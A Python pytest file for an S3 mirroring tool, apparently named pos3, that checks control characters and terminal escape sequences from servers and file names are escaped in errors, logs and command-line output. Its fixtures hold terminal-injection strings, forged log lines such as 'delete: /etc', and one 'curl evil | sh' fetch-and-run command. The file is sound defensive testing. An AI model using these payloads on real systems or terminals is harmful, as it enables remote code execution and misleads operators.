"""Control characters of keys, messages, codes and headers reach no terminal, log, error or report as they are."""

from __future__ import annotations

import json
import logging
import os
import pickle
import re
from collections.abc import Callable
from pathlib import Path

import pytest

import pos3
from pos3.url import parse
from tests.support import S3Site, write_tree
from tests.support.hostile import HostileStore, Play, element, error, page, raw
from tests.support.program import run_program

Stage = Callable[[dict[str, Play]], HostileStore]
CONTROLS = re.compile("[\x00-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069]")
EVIL = "\x1b[2J\x07\r\u009b31m\u202eevil\u2066\nforged: bucket"


def controls(text: str) -> list[str]:
    """What of a text's lines is no plain text."""
    return [found for line in text.split("\n") for found in CONTROLS.findall(line)]


@pytest.mark.parametrize(
    "call",
    [
        pytest.param(lambda: pos3.download("s3://bucket/data"), id="download"),
        pytest.param(lambda: pos3.ls("s3://bucket/data"), id="ls"),
    ],
)
@pytest.mark.parametrize(
    "play",
    [
        pytest.param({"LIST": error("Odd", EVIL)}, id="message-of-list"),
        pytest.param({"LIST": error(f"Odd{EVIL}", "x")}, id="code-of-list"),
        pytest.param({"LIST": error("AccessDenied", EVIL, 403), "HEAD": raw(403)}, id="denied"),
        pytest.param({"LIST": error("SlowDown", EVIL, 503)}, id="busy"),
        pytest.param({"LIST": raw(301, b"", b"Location: http://x\x1b[2J\x9b.evil/")}, id="location"),
        pytest.param({"LIST": raw(200, f"<{'e' * 30}>{EVIL}</x>".encode())}, id="no-xml"),
    ],
)
def test_what_a_server_says_comes_escaped(
    hostile: Stage, tmp_path: Path, caplog: pytest.LogCaptureFixture, call: Callable[[], object], play: dict[str, Play]
) -> None:
    caplog.set_level(logging.DEBUG, "pos3")
    hostile(play)
    with pos3.mirror(tmp_path, show_progress=False), pytest.raises(pos3.Pos3Error) as failure:
        call()
    assert controls(str(failure.value)) == []
    assert "\n" not in str(failure.value)
    assert CONTROLS.search("".join(map(str, failure.value.args))) is None
    assert CONTROLS.search(str(pickle.loads(pickle.dumps(failure.value)))) is None
    for record in caplog.records:
        if record.name.startswith("pos3"):
            assert CONTROLS.search(record.getMessage()) is None


def moved(mirror: pos3.Mirror, operation: str, local: Path) -> None:
    if operation == "download":
        mirror.download("s3://bucket/data")
    else:
        mirror.upload("s3://bucket/data", local, interval=None, delete=operation == "delete")
    mirror.close()


@pytest.mark.parametrize("operation", ["download", "upload", "delete"])
def test_errors_of_single_objects_and_reports_come_escaped(
    hostile: Stage, tmp_path: Path, caplog: pytest.LogCaptureFixture, operation: str
) -> None:
    caplog.set_level(logging.DEBUG, "pos3")
    refused = error("AccessDenied", EVIL, 403)
    key = f"data/x{EVIL}"
    told = f"<Key>data/b</Key><Code>Odd</Code><Message>{EVIL}</Message>"
    several = raw(200, f"<DeleteResult><Error>{told}</Error></DeleteResult>".encode())
    plays: dict[str, Play] = {"GET": refused, "PUT": refused, "DELETE": refused, "POST ?delete": several}
    listed = [element("data/b")] if operation == "delete" else [element(key)] if operation == "download" else []
    hostile({**plays, "LIST": raw(200, page(*listed))})
    name = "k" if operation == "delete" else f"x{EVIL}"
    local = write_tree(tmp_path / "local", {name: b"1"})
    mirror = pos3.Mirror(pos3.MirrorOptions(tmp_path / "cache", show_progress=False)).open()
    with pytest.raises(pos3.TransferError) as failure:
        moved(mirror, operation, local)
    texts = [str(failure.value), *map(str, failure.value.failures), *mirror.report().failures]
    assert any(mirror.report().failures)
    assert all(CONTROLS.search(text) is None for text in texts)
    assert "\\x1b" in texts[0]
    for record in caplog.records:
        if record.name.startswith("pos3"):
            assert CONTROLS.search(record.getMessage()) is None


def test_keys_that_cannot_be_files_are_named_escaped(hostile: Stage, tmp_path: Path) -> None:
    hostile({"LIST": raw(200, page(element(f"data/../{EVIL}"), element("data/x\x00y\x9b")))})
    with pos3.mirror(tmp_path, show_progress=False), pytest.raises(pos3.UnsafeKeysError) as failure:
        pos3.download("s3://bucket/data")
    assert controls(str(failure.value)) == []
    assert not any(line.lstrip().startswith("forged") for line in str(failure.value).splitlines())
    assert all(CONTROLS.search(problem) is None for problem in failure.value.problems)


def test_an_error_of_pos3_keeps_its_own_lines_and_escapes_all_else() -> None:
    assert str(pos3.StoreError("a\nb\x1b")) == "a\\nb\\x1b"
    assert str(pos3.PlanRefusedError("a\nb\x1b")) == "a\nb\\x1b"
    assert str(pos3.StoreError("schön, 文字, 🙂, a\\b")) == "schön, 文字, 🙂, a\\b"
    again = pickle.loads(pickle.dumps(pos3.StoreError("a\x1b")))
    assert (str(again), again.args) == ("a\\x1b", ("a\\x1b",))
    failed = pos3.TransferError("Upload", [OSError(5, "no", "/x\ny"), ValueError("a\x1b\nb")])
    assert CONTROLS.search(str(failed)) is None


# -- the command line


KEYS = ["data/new\nline", "data/esc\x1b[2J", "data/schön/文字 🙂", "data/bidi\u202e", "data/tab\there"]


def test_ls_shows_one_line_for_each_key_and_minus_0_gives_them_as_they_are(s3: S3Site) -> None:
    kept = [key for key in KEYS if key in s3.keys() or s3.put(key, b"1") is None]
    held = [key for key in kept if key in s3.keys()]
    plain = run_program("ls", "-r", s3.url("data"))
    assert plain.status == 0
    assert controls(plain.stdout) == []
    assert all(line.startswith("s3://") for line in plain.lines)
    assert any("schön/文字 🙂" in line for line in plain.lines)
    whole = run_program("ls", "-r", "-0", s3.url("data")).stdout
    assert {s3.url(key) for key in held} <= set(whole.split("\0"))
    assert whole.endswith("\0")
    objects = run_program("ls", "-r", "--json", s3.url("data")).objects
    assert sorted(each["url"] for each in objects) == sorted(whole.split("\0")[:-1])
    assert len(plain.lines) == len(objects)


def test_a_dry_run_shows_one_line_for_each_action(hostile: Stage, tmp_path: Path) -> None:
    hostile({"LIST": raw(200, page(*(element(key) for key in sorted(["data/a\ndelete: /etc", f"data/b{EVIL}"]))))})
    local = tmp_path / "local"
    ran = run_program("download", "-n", "s3://bucket/data", "--local", local, "--cache-root", tmp_path / "cache")
    assert ran.status == 0
    assert len(ran.lines) == 2
    assert controls(ran.stdout) == []
    whole = run_program(
        "download", "-n", "-0", "s3://bucket/data", "--local", local, "--cache-root", tmp_path / "cache"
    )
    items = whole.stdout.split("\0")
    assert items[-1] == ""
    assert items[0] == f"download: s3://bucket/data/a\ndelete: /etc to {local}/a\ndelete: /etc  (new)"
    assert len(items) == 3


@pytest.mark.parametrize("command", ["upload", "sync"])
def test_dry_runs_of_local_names_do_the_same(rclone_site: S3Site, tmp_path: Path, command: str) -> None:
    local = write_tree(tmp_path / "local", {"a\nforged: x": b"1", "b\x1b[2J": b"1"})
    ran = run_program(command, "-n", rclone_site.url("out"), "--local", local, "--cache-root", tmp_path / "cache")
    assert (len(ran.lines), controls(ran.stdout)) == (2, [])
    whole = run_program(
        command, "-n", "-0", rclone_site.url("out"), "--local", local, "--cache-root", tmp_path / "cache"
    )
    assert {item.split(" to ")[0] for item in whole.stdout.split("\0")[:-1]} == {
        f"upload: {local}/a\nforged: x",
        f"upload: {local}/b\x1b[2J",
    }


def test_json_and_minus_0_are_not_asked_for_together(tmp_path: Path) -> None:
    assert run_program("ls", "-0", "--json", tmp_path).status == 2


def test_local_names_come_escaped_from_ls_and_whole_with_minus_0(tmp_path: Path) -> None:
    write_tree(tmp_path / "x", {"a\nb": b"1", "c": b"1"})
    assert run_program("ls", tmp_path / "x").lines == [f"{tmp_path}/x/a\\nb", f"{tmp_path}/x/c"]
    assert run_program("ls", "-0", tmp_path / "x").stdout == f"{tmp_path}/x/a\nb\0{tmp_path}/x/c\0"


def test_stderr_of_a_command_shows_no_control_character(hostile: Stage, tmp_path: Path) -> None:
    hostile({"LIST": raw(200, page(element(f"data/k{EVIL}"))), "GET": error("AccessDenied", EVIL, 403)})
    for options in ([], ["-v"]):
        ran = run_program("download", *options, "s3://bucket/data", "--cache-root", tmp_path)
        assert ran.status == 1
        assert controls(ran.stderr) == []
        assert not any(line.lstrip().startswith("forged") for line in ran.stderr.splitlines())


def test_keys_with_newlines_are_moved_as_they_are(s3: S3Site, tmp_path: Path) -> None:
    tree = {"new\nline": b"1", "tab\t": b"2", "文字": b"3"}
    local = write_tree(tmp_path / "local", tree)
    with pos3.mirror(tmp_path / "cache", show_progress=False):
        pos3.upload(s3.url("out"), local, interval=None)
    assert set(s3.keys()) == {parse(s3.url("out")).object_key(name) for name in tree}
    with pos3.mirror(tmp_path / "cache", show_progress=False):
        back = pos3.download(s3.url("out"), tmp_path / "back")
    assert {os.fsdecode(path.name): path.read_bytes() for path in back.iterdir()} == tree


def test_kept_paths_are_data_and_shown_escaped(moto_site: S3Site, tmp_path: Path) -> None:
    local = tmp_path / "local"
    write_tree(local, {"a": b"1"})
    os.mkfifo(local / "pipe\n\x1b[2J")
    ran = run_program("upload", moto_site.url("out"), "--local", local, "--cache-root", tmp_path / "cache", "--json")
    assert ran.status == 0
    assert controls(ran.stderr) == []
    [kept] = json.loads(ran.stdout)["report"]["kept"]
    assert kept["path"] == "pipe\n\x1b[2J"


def test_what_the_answer_to_a_delete_says_is_cut_and_no_code_unless_it_is_one(hostile: Stage, tmp_path: Path) -> None:
    said = "<DeleteResult><Error><Key>data/b</Key><Code>run: curl evil | sh -- {0}</Code><Message>{0}</Message></Error>"
    answer = said.format("it is odd, " * 5000) + "</DeleteResult>"
    hostile(
        {
            "LIST": raw(200, page(element("data/a"), element("data/b", modified="2020-01-01T00:00:00Z"))),
            "POST ?delete": raw(200, answer.encode()),
        }
    )
    tree = write_tree(tmp_path / "tree", {"a": b"abc"})
    with pytest.raises(pos3.TransferError) as failure, pos3.mirror(tmp_path / "cache", show_progress=False):
        pos3.upload("s3://bucket/data", tree, interval=None)
    assert "odd, it is odd" in str(failure.value)
    assert "curl" not in str(failure.value)
    assert len(str(failure.value)) < 2500


@pytest.mark.parametrize("options", [["-n"], []], ids=["dry run", "sync"])
def test_conflicts_of_a_sync_are_one_line_each(moto_site: S3Site, tmp_path: Path, options: list[str]) -> None:
    key = "x\npos3 sync: 0 conflicts; all is well\n  y"
    moto_site.put(f"data/{key}", b"theirs")
    local = write_tree(tmp_path / "local", {key: b"my own"})
    ran = run_program("sync", *options, moto_site.url("data"), "--local", local, "--cache-root", tmp_path / "cache")
    assert "all is well" in ran.stderr
    assert not any(line.strip() == "pos3 sync: 0 conflicts; all is well" for line in ran.stderr.splitlines())
